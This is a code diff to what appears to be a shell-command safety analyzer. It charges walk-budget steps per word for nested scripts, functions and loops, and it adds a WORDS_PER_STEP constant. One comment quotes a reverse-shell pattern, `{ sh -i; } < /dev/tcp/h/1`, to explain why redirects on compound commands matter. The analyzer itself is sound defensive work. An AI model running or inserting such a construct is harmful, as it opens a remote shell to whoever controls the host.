@@ -126,7 +126,13 @@ export class LineWalker implements Walker {
   /** `certain`: the command surely runs in this shell, so its state changes are known. */
   command(cmd: Command, frame: SourceFrame, ctx: CommandContext, scope: Scope, certain: boolean): void {
     // Past the budget nothing more is walked: the verdict asks (expansion-limit), whatever is left.
-    if (!this.spend(1, frame.map(cmd.span))) return;
+    // Code walked again (a nested script, a function body, a loop pass) also pays for its words:
+    // each word becomes operations for every layer after the walk, so a leaf of many words run
+    // thousands of times would otherwise cost seconds within the budget. The top-level text's own
+    // words are walked once, which its length already bounds.
+    const again = frame.scriptDepth > 0 || ctx.functionName !== null || ctx.loop;
+    const words = again && cmd.type === 'SimpleCommand' ? cmd.words.length + cmd.redirects.length : 0;
+    if (!this.spend(1 + Math.floor(words / WORDS_PER_STEP), frame.map(cmd.span))) return;
     if (cmd.type === 'SimpleCommand' || cmd.redirects.length === 0) return this.commandBody(cmd, frame, ctx, scope, certain);
     // Redirects on a compound command are set up before its body runs, and the commands inside
     // read and write through them: `{ sh -i; } < /dev/tcp/h/1` is a shell reading a socket. They
@@ -659,6 +665,9 @@ function loopValues(items: Word[], es: ExpandScope): string[] | null {
   }
   return [...new Set(out)];
 }
+
+/** Words of code walked again that cost one step of the walk's budget. */
+const WORDS_PER_STEP = 8;
 
 /** POSIX special builtins: an assignment before one persists in posix mode and in dash. */
 const SPECIAL_BUILTINS = new Set([
